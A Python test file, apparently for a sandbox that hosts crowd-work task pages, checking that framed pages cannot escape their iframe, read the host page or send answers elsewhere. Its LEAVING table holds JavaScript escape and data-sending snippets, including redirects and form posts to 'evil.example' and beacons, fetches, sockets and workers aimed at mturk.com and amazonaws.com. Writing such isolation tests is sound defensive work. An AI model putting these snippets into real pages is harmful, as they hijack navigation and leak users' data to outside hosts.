"""Pages that try to leave their frame, to send an answer elsewhere, or to reach Amazon."""

from __future__ import annotations

import pytest

from mturk_exodus.demo import markup
from mturk_exodus.questions.showing import frame_of
from tests.mturk_exodus.serve.host.stage import ORIGIN, Stage

pytestmark = pytest.mark.live
SETTLES = 600  # ms
LEAVING = {
    "the top": "top.location = 'https://evil.example/'",
    "the parent": "parent.location.href = 'https://evil.example/'",
    "itself": "location = 'https://evil.example/?answer=1'",
    "itself to MTurk": "location = 'https://www.mturk.com/mturk/externalSubmit?a=1'",
    "a link to the top": "const a = document.createElement('a'); a.href = 'https://evil.example';"
    "a.target = '_top'; document.body.append(a); a.click()",
    "a form": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
    "f.method = 'post'; document.body.append(f); f.submit()",
    "a form to the top": "const f = document.createElement('form'); f.target = '_top';"
    "f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    "a form of a frame of its own": "const i = document.createElement('iframe');"
    "document.body.append(i); const f = i.contentDocument.createElement('form');"
    "f.action = 'https://www.mturk.com/mturk/externalSubmit'; f.method = 'post';"
    "i.contentDocument.body.append(f); i.contentWindow.HTMLFormElement.prototype.submit.call(f)",
    "fetch": "fetch('https://www.mturk.com/api', {method: 'POST', body: 'a=1', mode: 'no-cors'})",
    "a fetch of a frame of its own": "const i = document.createElement('iframe');"
    "document.body.append(i); i.contentWindow.fetch('https://evil.example/', {mode: 'no-cors'})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'https://s3.amazonaws.com/x');"
    "x.send()",
    "a beacon": "navigator.sendBeacon('https://www.amazon.com/', 'x')",
    "a picture": "new Image().src = 'https://s3.amazonaws.com/b/x.png?answer=1'",
    "a script": "document.head.append(Object.assign(document.createElement('script'),"
    "{src: 'https://assets.crowd.aws/crowd-html-elements.js'}))",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    "{src: 'https://www.mturk.com/'}))",
    "a style": "document.head.append(Object.assign(document.createElement('link'),"
    "{rel: 'stylesheet', href: 'https://s3.amazonaws.com/mturk-public/bs30/css/bootstrap.css'}))",
    "a window": "window.open('https://www.mturk.com/')",
    "a socket": "new WebSocket('wss://www.mturk.com/')",
    "a worker": "new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('https://www.mturk.com/', {mode: 'no-cors'})\"])))",
    "a base": "document.head.append(Object.assign(document.createElement('base'),"
    "{href: 'https://www.mturk.com/'})); new Image().src = 'a.png'; fetch('b')",
}


@pytest.mark.parametrize("way", LEAVING)
def test_nothing_leaves_a_frame(shown: Stage, way: str) -> None:
    # The addresses are put together by the script, so that the page loads nothing from them.
    script = LEAVING[way].replace("://", "' + SEPARATOR + '")
    text = markup.html_form("<input name=a value=1>")
    inside = shown.show(frame_of(text, origin=ORIGIN))
    inside.evaluate(
        "(text) => { try { (0, eval)(`((SEPARATOR) => { ${text} })`)('://') }"
        " catch (error) { window.refused = String(error) } }",
        script,
    )
    shown.page.wait_for_timeout(SETTLES)
    assert shown.network.elsewhere == []
    assert shown.network.posts == []
    assert shown.page.url == f"{ORIGIN}/hit"


def test_a_page_reads_nothing_of_the_host(shown: Stage) -> None:
    inside = shown.show(frame_of(markup.html_form(""), origin=ORIGIN))
    tried = inside.evaluate(
        """async () => {
          const tries = [() => parent.document.title, () => top.document.body,
            () => frameElement.src.length];
          const said = tries.map((one) => { try { return `${one()}` } catch { return "refused" } });
          const read = await fetch("/hit").then((reply) => reply.text(), () => "refused");
          return [...said, read, self.origin];
        }"""
    )
    assert tried == ["refused", "refused", "refused", "refused", "null"]


def test_a_frame_that_is_opened_by_itself_is_as_shut_in(shown: Stage) -> None:
    shown.show(frame_of(markup.html_form(""), origin=ORIGIN))
    shown.page.goto(f"{ORIGIN}/frame?assignmentId=A")
    assert shown.page.evaluate("self.origin") == "null"


def test_what_a_page_asks_of_mturk_from_its_start_is_not_asked(shown: Stage) -> None:
    page = """<html><head><link rel=preload as=script href="https://www.mturk.com/a.js">
    <script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script>
    <script src='//assets.crowd.aws/crowd-html-elements.js'></script>
    <link rel=stylesheet href="https://s3.amazonaws.com/mturk-public/bs30/css/bootstrap.min.css">
    <style>@import "https://s3.amazonaws.com/b.css"; body { background:
    url(https://images-na.ssl-images-amazon.com/x.png) }</style>
    <meta http-equiv=refresh content="0; url=https://www.mturk.com/"></head>
    <body><img src="https://bucket.s3.amazonaws.com/p.jpg">
    <form id=mturk_form><input name=a value=1><input type=submit></form></body></html>"""
    frame = frame_of(page, origin=ORIGIN)
    shown.show(frame)
    shown.page.wait_for_timeout(SETTLES)
    assert shown.network.elsewhere == []
    assert "bucket.s3.amazonaws.com" in frame.blocked


def test_a_picture_of_an_allowed_host_is_asked_for(shown: Stage) -> None:
    page = (
        '<img src="https://b.s3.amazonaws.com/p.jpg"><img src="https://c.s3.amazonaws.com/p.jpg">'
    )
    frame = frame_of(page, origin=ORIGIN, allowed_hosts=["b.s3.amazonaws.com"])
    shown.show(frame)
    shown.wait(lambda: bool(shown.network.elsewhere), 5)
    assert set(shown.network.elsewhere) == {"https://b.s3.amazonaws.com/p.jpg"}
